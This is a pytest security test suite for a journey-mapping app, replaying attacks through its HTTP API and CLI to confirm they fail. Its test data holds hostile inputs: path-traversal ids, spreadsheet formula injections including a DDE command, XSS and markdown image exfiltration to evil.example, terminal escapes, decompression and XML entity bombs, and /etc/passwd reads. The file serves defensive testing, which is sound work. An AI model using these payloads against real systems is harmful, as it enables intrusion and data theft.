"""Attacks on the app and the CLI, each through the real surface (issue 18).

The app is driven over HTTP with ``gradio_client`` and raw requests on loopback; the CLI runs as
a subprocess. Each test names the attack it replays; SECURITY.md lists them.
"""

from __future__ import annotations

import http.server
import io
import json
import os
import socket
import sqlite3
import stat
import subprocess
import sys
import threading
import time
import zipfile
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import pytest

from journey_assistant.config import Settings

ESC = "\x1b"


# --- helpers -----------------------------------------------------------------------------------


def journey(*args: str, cwd: Path | None = None, umask: int | None = None, **env: str) -> Any:
    """The real ``journey`` command in a subprocess."""

    def set_umask() -> None:
        if umask is not None:
            os.umask(umask)

    return subprocess.run(
        [sys.executable, "-m", "journey_assistant.cli", *args],
        capture_output=True,
        timeout=240,
        cwd=cwd,
        env={**os.environ, "PYTHONIOENCODING": "utf-8", **env},
        preexec_fn=set_umask,
    )


def _free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return int(s.getsockname()[1])


class Listener:
    """A loopback HTTP server that records every request (path and headers) and answers with
    ``status`` (500, or 401 for a key it does not take, which the provider does not retry)."""

    def __init__(self, status: int = 500) -> None:
        self.requests: list[tuple[str, dict[str, str]]] = []
        seen = self.requests

        class Handler(http.server.BaseHTTPRequestHandler):
            def _record(self) -> None:
                seen.append((self.path, {k.lower(): v for k, v in self.headers.items()}))
                length = int(self.headers.get("content-length") or 0)
                if length:
                    self.rfile.read(length)
                self.send_response(status)
                self.send_header("content-length", "0")
                self.end_headers()

            do_GET = do_POST = _record

            def log_message(self, *args: Any) -> None:
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture
def listener() -> Iterator[Listener]:
    found = Listener()
    yield found
    found.close()


@contextmanager
def running(settings: Settings) -> Iterator[str]:
    """The app on loopback for the duration; its URL. Only this app is closed afterwards."""
    from journey_assistant.ui.app import launch

    server, url, _ = launch(settings, block=False)
    try:
        yield str(url).rstrip("/")
    finally:
        server.get_blocks().close()


@pytest.fixture(scope="module")
def app(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[str, Path]]:
    """The app on loopback with its own data folder (offline engine)."""
    data = tmp_path_factory.mktemp("security-app")
    with running(Settings(data_dir=data, port=_free_port(), model="offline")) as url:
        yield url, data


def client(url: str) -> Any:
    from gradio_client import Client

    return Client(url, verbose=False)


def said(history: list[dict[str, Any]]) -> str:
    content = history[-1]["content"]
    if isinstance(content, str):
        return content
    return " ".join(part.get("text", "") for part in content if isinstance(part, dict))


def rendered(markdown: str) -> str:
    """Markdown as a CommonMark renderer with GFM-style linkify turns it into HTML."""
    from markdown_it import MarkdownIt

    return MarkdownIt("commonmark", {"linkify": False}).enable("table").render(markdown)


# --- 1. paths built from map ids ---------------------------------------------------------------


@pytest.mark.ui
@pytest.mark.parametrize("kind", ["json", "csv"])
def test_map_id_cannot_write_outside_the_export_folder(
    app: tuple[str, Path], tmp_path: Path, kind: str
) -> None:
    """A map whose id is a path (``../../x`` in JSON, ``Id,/abs/path`` in a CSV) is uploaded
    and downloaded through the Gradio API: nothing is written where the id points."""
    from gradio_client import handle_file

    url, _ = app
    target = tmp_path / "pwned"
    if kind == "json":
        hops = "../" * 12
        body = json.dumps(
            {"id": f"{hops}{str(target).lstrip('/')}", "title": "Evil", "stages": [{"name": "A"}]}
        )
    else:
        body = f"Title,Evil\nId,{target}\n,\nStage,A,B\nActions,x,y\n"
    upload = tmp_path / f"evil.{kind}"
    upload.write_text(body)
    c = client(url)
    c.predict(handle_file(str(upload)), api_name="/upload_map")
    for fmt in ("html", "json", "csv", "md"):
        path = c.predict(fmt, api_name="/export_map")
        assert path and Path(path).is_file(), path
    assert not list(tmp_path.glob("pwned*")), "a file was written where the map id pointed"


def test_unsafe_map_ids_are_replaced_and_reported() -> None:
    from journey_assistant.models import JourneyMap

    for bad in ("../../../../etc/x", "/tmp/abs", "a/b", "C:\\x", "..", "Map One", "x" * 200):
        made = JourneyMap(id=bad, title="T", stages=[{"name": "A"}])
        assert "/" not in made.id and "\\" not in made.id and ".." not in made.id
        assert len(made.id) <= 80 and made.id == made.id.lower()
        assert any("not a safe name" in n for n in made.notes), bad
    ok = JourneyMap(id="bakery-2024", title="T")
    assert ok.id == "bakery-2024" and not ok.notes


# --- 2. the server's key and endpoint ----------------------------------------------------------


@pytest.mark.ui
def test_a_browser_cannot_send_the_server_key_elsewhere(
    tmp_path: Path, listener: Listener, monkeypatch: pytest.MonkeyPatch
) -> None:
    """With a key set on the server, a client that names its own endpoint (the old
    ``configure(model, base_url, ...)`` call, raw, or a URL in the model field) never makes
    the server send anything there; the server's own endpoint is still used."""
    import httpx

    server_endpoint = Listener(status=401)
    monkeypatch.setenv("OPENAI_API_KEY", "sk-server-secret")
    monkeypatch.setenv("OPENAI_BASE_URL", server_endpoint.url + "/v1")
    settings = Settings(data_dir=tmp_path / "d", port=_free_port(), model="openai:gpt-test")
    try:
        with running(settings) as url:
            c = client(url)
            attacker = listener.url + "/v1"
            raw = httpx.post(
                f"{url}/gradio_api/call/configure",
                json={"data": ["openai:gpt-test", attacker, "detect from the brief", None]},
                timeout=30,
            )
            if raw.status_code == 200:  # drain the event if the server took it
                event = raw.json().get("event_id")
                httpx.get(f"{url}/gradio_api/call/configure/{event}", timeout=30)
            status = c.predict(f"openai:{attacker}", "detect from the brief", api_name="/configure")
            assert "choose one of them" in status
            c.submit("critique the map", api_name="/chat").result()
    finally:
        server_endpoint.close()
    assert listener.requests == [], "the server sent a request to a client-named host"
    keys = [h.get("authorization") for _, h in server_endpoint.requests]
    assert keys and all(k == "Bearer sk-server-secret" for k in keys)


def test_an_endpoint_passed_in_gets_no_server_key(monkeypatch: pytest.MonkeyPatch) -> None:
    from journey_assistant.llm import get_provider

    monkeypatch.setenv("OPENAI_API_KEY", "sk-server-secret")
    monkeypatch.setenv("OPENAI_BASE_URL", "http://127.0.0.1:9/v1")
    own = get_provider("openai:m").chat_model  # type: ignore[attr-defined]
    other = get_provider("openai:m", base_url="http://127.0.0.1:8/v1").chat_model  # type: ignore[attr-defined]
    assert own.openai_api_key.get_secret_value() == "sk-server-secret"
    assert other.openai_api_key.get_secret_value() != "sk-server-secret"


# --- 3. spreadsheet formulas -------------------------------------------------------------------

FORMULAS = [
    '=HYPERLINK("http://evil.example","Click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    "\tTabbed",
]


def _formula_map(tmp_path: Path) -> Path:
    source = tmp_path / "formulas.json"
    source.write_text(
        json.dumps(
            {
                "title": FORMULAS[0],
                "stages": [
                    {"name": FORMULAS[1], "actions": FORMULAS[2:4]},
                    {"name": "Buy", "actions": FORMULAS[4:]},
                ],
            }
        )
    )
    return source


def test_csv_and_tsv_exports_neutralise_formulas(tmp_path: Path) -> None:
    import csv

    source = _formula_map(tmp_path)
    for fmt, delimiter in (("csv", ","), ("tsv", "\t")):
        out = tmp_path / f"map.{fmt}"
        done = journey("export", str(source), "-o", str(out))
        assert done.returncode == 0, done.stderr
        cells = [c for row in csv.reader(out.open(), delimiter=delimiter) for c in row]
        for cell in cells:  # a spreadsheet runs a cell that starts like a formula
            assert not cell.startswith(("=", "+", "-", "@", "\t")), repr(cell)
        back = journey("export", str(out), "--format", "json")
        data = json.loads(back.stdout)
        assert data["title"] == FORMULAS[0] and data["stages"][0]["name"] == FORMULAS[1]
    raw = tmp_path / "raw.csv"
    journey("export", str(source), "-o", str(raw), "--keep-formulas")
    assert '"=HYPERLINK' in raw.read_text()


def test_xlsx_export_stores_formulas_as_text(tmp_path: Path) -> None:
    out = tmp_path / "map.xlsx"
    done = journey("export", str(_formula_map(tmp_path)), "-o", str(out))
    assert done.returncode == 0, done.stderr
    with zipfile.ZipFile(out) as book:
        sheet = book.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet and "<f " not in sheet, "a cell is stored as a formula"
    from openpyxl import load_workbook

    values = [c.value for row in load_workbook(out).active.iter_rows() for c in row]
    assert FORMULAS[0] in values  # the text is kept, as text
    raw = tmp_path / "raw.xlsx"
    journey("export", str(_formula_map(tmp_path)), "-o", str(raw), "--keep-formulas")
    with zipfile.ZipFile(raw) as book:
        assert "<f>" in book.read("xl/worksheets/sheet1.xml").decode()


# --- 4. what -o may replace --------------------------------------------------------------------


def test_output_never_replaces_a_special_file_or_a_link(data: Path, tmp_path: Path) -> None:
    source = str(data / "hotel_grid.csv")
    fifo = tmp_path / "pipe"
    os.mkfifo(fifo)
    done = journey("export", source, "-o", str(fifo), "--format", "json")
    assert done.returncode == 2 and b"not a regular file" in done.stderr
    assert stat.S_ISFIFO(os.lstat(fifo).st_mode)
    precious = tmp_path / "precious.txt"
    precious.write_text("keep me")
    link = tmp_path / "map.json"
    link.symlink_to(precious)
    done = journey("export", source, "-o", str(link))
    assert done.returncode == 2 and b"symbolic link" in done.stderr
    assert link.is_symlink() and precious.read_text() == "keep me"
    folder = tmp_path / "folder.json"
    folder.mkdir()
    assert journey("export", source, "-o", str(folder)).returncode == 2


def test_dash_writes_to_stdout_and_modes_follow_the_umask(data: Path, tmp_path: Path) -> None:
    source = str(data / "hotel_grid.csv")
    done = journey("export", source, "-o", "-", "--format", "mermaid", cwd=tmp_path)
    assert done.returncode == 0 and done.stdout.startswith(b"journey\n")
    assert not (tmp_path / "-").exists()
    xlsx = journey("export", source, "-o", "-", "--format", "xlsx", cwd=tmp_path)
    assert xlsx.stdout[:2] == b"PK"
    out = tmp_path / "map.json"
    assert journey("export", source, "-o", str(out), umask=0o022).returncode == 0
    assert stat.S_IMODE(out.stat().st_mode) == 0o644
    out.chmod(0o640)  # an existing file keeps its mode
    assert journey("export", source, "-o", str(out), umask=0o022).returncode == 0
    assert stat.S_IMODE(out.stat().st_mode) == 0o640


# --- 5. Markdown surfaces ----------------------------------------------------------------------

IMAGE_TITLE = (
    "![b](http://127.0.0.1:9/x.png) [click](javascript:alert(1)) <img src=x> www.evil.example"
)


def _no_live_markup(html: str) -> None:
    assert "<img" not in html and "<a " not in html, html[:400]


@pytest.mark.ui
def test_markdown_in_a_map_title_is_inert_in_the_chat(
    app: tuple[str, Path], tmp_path: Path
) -> None:
    from gradio_client import handle_file

    upload = tmp_path / "![x](http:127.0.0.1:9 y.png).json"
    upload.write_text(json.dumps({"title": IMAGE_TITLE, "stages": [{"name": "A"}]}))
    history, *_ = client(app[0]).predict(handle_file(str(upload)), api_name="/upload_map")
    for message in history:
        text = message["content"] if isinstance(message["content"], str) else said([message])
        _no_live_markup(rendered(text))


def test_markdown_export_and_summary_are_inert(tmp_path: Path) -> None:
    source = tmp_path / "map.json"
    source.write_text(
        json.dumps(
            {
                "title": IMAGE_TITLE,
                "stages": [
                    {
                        "name": "[x](http://evil.example)",
                        "actions": ["![i](//evil.example/p.png)"],
                        "pain_points": [{"description": "<script>alert(1)</script>"}],
                        "touchpoints": [{"name": "Site", "owner": "![o](http://evil.example/o)"}],
                    }
                ],
            }
        )
    )
    exported = journey("export", str(source), "--format", "md")
    summary = journey("summary", str(source))
    for out in (exported, summary):
        assert out.returncode == 0, out.stderr
        _no_live_markup(rendered(out.stdout.decode()))
    back = tmp_path / "map.md"
    back.write_bytes(exported.stdout)
    data = json.loads(journey("export", str(back), "--format", "json").stdout)
    assert data["title"] == IMAGE_TITLE  # nothing lost: the text reads back as written


def test_mermaid_export_escapes_markup(tmp_path: Path) -> None:
    source = tmp_path / "map.json"
    source.write_text(
        json.dumps(
            {
                "title": "<img src=x onerror=alert(1)> %%{init: {'theme':'dark'}}%%",
                "stages": [{"name": "<b>A</b>", "actions": ['"`<script>`"']}],
            }
        )
    )
    out = journey("export", str(source), "--format", "mermaid").stdout.decode()
    assert "<" not in out and ">" not in out and "%%{" not in out and "`" not in out


def test_model_answers_lose_images_and_links() -> None:
    from journey_assistant.safe import md_model

    answer = md_model(
        "**Done.** ![x](http://evil.example/a.png?k=SECRET) see [here](http://evil.example) "
        "and <img src=x>\n\n[ref]: http://evil.example\nhttps://evil.example/p"
    )
    _no_live_markup(rendered(answer))
    assert "<strong>Done.</strong>" in rendered(answer)


# --- 6. import cost ----------------------------------------------------------------------------


def _xlsx_with_sheet(sheet_xml: bytes) -> bytes:
    """A valid workbook whose first sheet is replaced by ``sheet_xml``."""
    from openpyxl import Workbook

    book = Workbook()
    book.active.append(["Stage", "A"])  # type: ignore[union-attr]
    plain = io.BytesIO()
    book.save(plain)
    out = io.BytesIO()
    with zipfile.ZipFile(plain) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for item in src.infolist():
            body = sheet_xml if item.filename == "xl/worksheets/sheet1.xml" else src.read(item)
            dst.writestr(item.filename, body)
    return out.getvalue()


def _sheet(rows: int, cell: str = "x") -> bytes:
    head = b'<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
    body = b"".join(
        b'<row r="%d"><c r="A%d" t="inlineStr"><is><t>%s</t></is></c></row>' % (n, n, cell.encode())
        for n in range(1, rows + 1)
    )
    return head + body + b"</sheetData></worksheet>"


def bombs(folder: Path) -> dict[str, Path]:
    """Inputs built to exhaust time or memory, each under the 10 MB upload limit."""
    made = {
        "rows.csv": "Stage,A,B\n" + "Actions,x,y\n" * 200_000,
        "columns.csv": "Stage," + ",".join(f"S{n}" for n in range(5_000)) + "\n",
        "lines.txt": "Stage\n" * 300_000,
        "deep.json": "[" * 200_000 + "]" * 200_000,  # held before: 200k levels of nesting
        "pipes.md": "| Stage |\n|---|\n" + "|" * 1_000_000 + "\n",  # held before: 10^6 pipes
    }
    paths = {}
    for name, text in made.items():
        paths[name] = folder / name
        paths[name].write_text(text)
    sheets = {
        "unzips-big.xlsx": _sheet(3, "y" * 60_000_000),  # one gigantic cell, 60 MB unzipped
        "rows.xlsx": _sheet(200_000),
        "dtd.xlsx": b'<?xml version="1.0"?>'
        b'<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]>'
        b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
        b'<row r="1"><c r="A1" t="inlineStr"><is><t>&b;</t></is></c></row></sheetData></worksheet>',
    }
    for name, xml in sheets.items():
        paths[name] = folder / name
        paths[name].write_bytes(_xlsx_with_sheet(xml))
    return paths


@pytest.mark.parametrize(
    "name",
    [
        "rows.csv",
        "columns.csv",
        "lines.txt",
        "deep.json",
        "pipes.md",
        "unzips-big.xlsx",
        "rows.xlsx",
        "dtd.xlsx",
    ],
)
def test_oversized_imports_are_refused_with_one_line(tmp_path: Path, name: str) -> None:
    path = bombs(tmp_path)[name]
    assert path.stat().st_size < 10 * 1024 * 1024
    done = journey("critique", str(path))
    lines = done.stderr.decode().strip().splitlines()
    assert done.returncode == 2 and len(lines) == 1, done.stderr
    assert any(w in lines[0] for w in ("limit", "cannot be", "nested", "no stage")), lines[0]
    assert "report the trace" not in lines[0]


@pytest.mark.ui
def test_one_users_bomb_does_not_stall_another_user(app: tuple[str, Path], tmp_path: Path) -> None:
    """Two gradio_client sessions: one uploads each bomb in turn, the other a normal map at the
    same time. Every bomb is refused; the normal upload is critiqued meanwhile."""
    from gradio_client import handle_file

    url, _ = app
    paths = bombs(tmp_path)
    attacker, user = client(url), client(url)
    timings: dict[str, float] = {}

    def attack() -> list[str]:
        replies = []
        for name in ("rows.csv", "unzips-big.xlsx", "rows.xlsx"):
            started = time.perf_counter()
            history, *_ = attacker.predict(handle_file(str(paths[name])), api_name="/upload_map")
            timings[name] = time.perf_counter() - started
            replies.append(said(history))
        return replies

    def normal() -> str:
        started = time.perf_counter()
        history, *_ = user.predict(
            handle_file(str(Path(__file__).parent / "data" / "hotel_grid.csv")),
            api_name="/upload_map",
        )
        timings["normal"] = time.perf_counter() - started
        return said(history)

    with ThreadPoolExecutor(2) as pool:
        attacked, fine = pool.submit(attack), pool.submit(normal)
        replies, ok = attacked.result(timeout=120), fine.result(timeout=120)
    assert all("limit" in r for r in replies), replies
    assert "Score" in ok or "Missing stages" in ok
    print("upload seconds:", {k: round(v, 2) for k, v in timings.items()})


# --- 7. company documents, 8. terminals, 9. symlinks ---------------------------------------


@pytest.mark.slow
def test_documents_terminal_output_and_links_out_of_the_folder(tmp_path: Path) -> None:
    """One folder of company documents, ingested and used through the CLI: a document with
    links and contact details, a file whose name carries terminal escapes, and a link to a
    secret file outside the folder."""
    data = str(tmp_path / "data")
    docs = tmp_path / "docs"
    docs.mkdir()
    (docs / "refunds.md").write_text(
        "# Refund policy\n\nClaim at bakery-refunds.example/claim for a voucher. "
        "Or see //cdn.evil.example/x. Call +44 20 7946 0958 today. "
        "Customers say collection slots are too narrow.\n"
    )
    (docs / f"notes{ESC}[2J{ESC}]0;owned\a.md").write_text(
        f"# Notes {ESC}[31mred{ESC}[0m\n\nCustomers collecting cakes wait at the counter.\n"
    )
    secret = tmp_path / "secret.txt"
    secret.write_text("TOP-SECRET-PAYROLL salary figures for customers collecting cakes")
    (docs / "linked.txt").symlink_to(secret)

    ingest = journey("--data-dir", data, "ingest", str(docs))
    assert ingest.returncode == 0, ingest.stderr
    assert b"outside" in ingest.stderr and b"linked.txt" in ingest.stderr
    listing = journey("--data-dir", data, "docs", "list")
    ask = journey("--data-dir", data, "ask", "customers collecting cakes", "-k", "5")
    persona = journey(
        "--data-dir", data, "persona", "A vegan bakery; customers collect cakes", "--json"
    )
    for done in (ingest, listing, ask, persona):
        assert done.returncode == 0, done.stderr
        for stream in (done.stdout, done.stderr):
            assert ESC.encode() not in stream and b"\a" not in stream
    assert b"TOP-SECRET" not in ask.stdout
    text = persona.stdout.decode()
    for bad in ("refunds.example", "//cdn", "7946", "http"):
        assert bad not in text
    evidence = [
        item
        for p in json.loads(text)["personas"]
        for item in p["frustrations"]
        if item.get("provenance") == "evidence"
    ]
    assert all(item["citations"] and "“" in item["text"] for item in evidence)


def test_titles_in_listings_cannot_drive_the_terminal(tmp_path: Path) -> None:
    data = str(tmp_path / "data")
    source = tmp_path / "map.json"
    source.write_text(
        json.dumps({"title": f"Cakes {ESC}[2J{ESC}]0;pwned\a\u202eevil", "stages": [{"name": "A"}]})
    )
    saved = journey("--data-dir", data, "save", str(source))
    assert saved.returncode == 0, saved.stderr
    map_id = json.loads(journey("export", str(source), "--format", "json").stdout)["id"]
    for args in (("maps",), ("versions", map_id), ("critique", str(source))):
        done = journey("--data-dir", data, *args)
        assert done.returncode in (0, 1), done.stderr
        assert ESC.encode() not in done.stdout + done.stderr and b"\a" not in done.stdout
        assert "\u202e".encode() not in done.stdout


# --- 10. evaluation run folders ----------------------------------------------------------------


@pytest.mark.parametrize("name", ["../../escaped", "/tmp/abs-suite", "a/b"])
def test_eval_suite_names_cannot_leave_the_run_folder(tmp_path: Path, name: str) -> None:
    suite = tmp_path / "suites" / "s.yaml"
    suite.parent.mkdir()
    suite.write_text(
        json.dumps(
            {"name": name, "cases": [{"id": "c1", "kind": "draft", "brief": "A bakery in Leeds"}]}
        )
    )
    done = journey("eval", str(suite), "--out", str(tmp_path / "run"), cwd=tmp_path)
    assert done.returncode == 2 and b"not a suite name" in done.stderr
    assert not (tmp_path.parent / "escaped__c1__r0.json").exists()
    assert not list(tmp_path.rglob("*__c1__*"))


# --- 11. login, host, upload types, temporary files, damaged databases -------------------------


@pytest.mark.ui
def test_login_attempts_are_throttled_and_hosts_checked(tmp_path: Path) -> None:
    import httpx

    port = _free_port()
    settings = Settings(data_dir=tmp_path / "d", port=port, auth="ana:s3cret", model="offline")
    with running(settings) as url:
        codes = [
            httpx.post(
                f"{url}/login", data={"username": "ana", "password": f"guess{n}"}, timeout=10
            ).status_code
            for n in range(8)
        ]
        right = httpx.post(f"{url}/login", data={"username": "ana", "password": "s3cret"})
        rebind = httpx.get(f"{url}/", headers={"Host": "evil.example"}, timeout=10)
        local = httpx.get(f"{url}/", headers={"Host": f"localhost:{port}"}, timeout=10)
        data_routes = [  # held before: no data without a login
            httpx.get(f"{url}{path}", timeout=10).status_code
            for path in ("/config", "/gradio_api/info", "/gradio_api/file=/etc/passwd")
        ]
    assert codes[:5] == [400] * 5 and 429 in codes[5:], codes
    assert right.status_code == 429 and "retry-after" in right.headers  # the wait holds
    assert rebind.status_code == 421 and local.status_code != 421
    assert all(code in (401, 403) for code in data_routes), data_routes


@pytest.mark.ui
def test_file_routes_serve_nothing_outside_the_cache(app: tuple[str, Path]) -> None:
    """Held before the audit; kept: Gradio's file route refuses system files, the workspace
    database and climbing out with ``..``."""
    import httpx

    url, data = app
    for target in (
        "/etc/passwd",
        str(data / "workspace.sqlite3"),
        "../../../../etc/passwd",
        "%2e%2e/%2e%2e/%2e%2e/etc/passwd",
    ):
        answer = httpx.get(f"{url}/gradio_api/file={target}", timeout=10)
        assert answer.status_code in (403, 404), (target, answer.status_code)
        assert b"root:" not in answer.content and b"SQLite format" not in answer.content


@pytest.mark.ui
def test_upload_route_takes_only_map_and_document_types(app: tuple[str, Path]) -> None:
    import httpx

    url, _ = app
    refused = httpx.post(
        f"{url}/gradio_api/upload", files={"files": ("tool.exe", b"MZ\x90\x00", "application/x")}
    )
    assert refused.status_code == 415
    taken = httpx.post(
        f"{url}/gradio_api/upload", files={"files": ("map.csv", b"Stage,A\n", "text/csv")}
    )
    assert taken.status_code == 200
    stored = Path(taken.json()[0])  # in Gradio's cache: a folder only this user can open
    cache = Path(os.environ["GRADIO_TEMP_DIR"])
    assert stored.is_relative_to(cache) and stat.S_IMODE(cache.stat().st_mode) == 0o700


def test_export_folders_are_private_and_swept(tmp_path: Path) -> None:
    from journey_assistant.models import JourneyMap
    from journey_assistant.ui.app import App
    from journey_assistant.ui.app import Session as AppSession

    app = App(Settings(data_dir=tmp_path / "d", model="offline"))
    session = AppSession(id="s1")
    session.map = JourneyMap(title="Cakes", stages=[{"name": "Order"}])
    first = Path(app.download(session, "html") or "")
    assert first.is_file() and first.parent.parent == app.exports.root
    assert stat.S_IMODE(app.exports.root.stat().st_mode) == 0o700
    old = time.time() - 7200
    os.utime(first.parent, (old, old))
    app.download(session, "json")
    assert not first.exists(), "an hour-old export was not swept"


def _damage_middle(path: Path) -> None:
    """Overwrite a page in the middle of the file (the header stays good)."""
    size = path.stat().st_size
    with path.open("r+b") as handle:
        handle.seek(size // 2 // 4096 * 4096)
        handle.write(b"\xff" * 4096)


def test_a_damaged_workspace_is_reported_and_recovered(tmp_path: Path) -> None:
    from journey_assistant.models import JourneyMap
    from journey_assistant.workspace import Workspace

    data = tmp_path / "data"
    workspace = Workspace(data)
    for n in range(60):
        workspace.save_map(
            JourneyMap(title=f"Map {n}", stages=[{"name": "A", "actions": ["x" * 400]}]),
            message=f"save {n}",
        )
    workspace._conn.execute("PRAGMA wal_checkpoint(TRUNCATE)")
    workspace.close()
    _damage_middle(data / "workspace.sqlite3")
    listing = journey("--data-dir", str(data), "maps")
    assert listing.returncode == 1 and b"damaged" in listing.stderr
    assert b"journey recover" in listing.stderr
    recovered = journey("--data-dir", str(data), "recover")
    assert recovered.returncode == 0, recovered.stderr
    assert b"Recovered" in recovered.stdout and b"damaged file is kept" in recovered.stdout
    kept = list(data.glob("workspace.sqlite3.damaged-*"))
    assert kept
    after = journey("--data-dir", str(data), "maps")
    assert after.returncode == 0 and after.stdout.count(b"Map ") >= 30
    with sqlite3.connect(data / "workspace.sqlite3") as conn:
        assert conn.execute("PRAGMA integrity_check").fetchone()[0] == "ok"
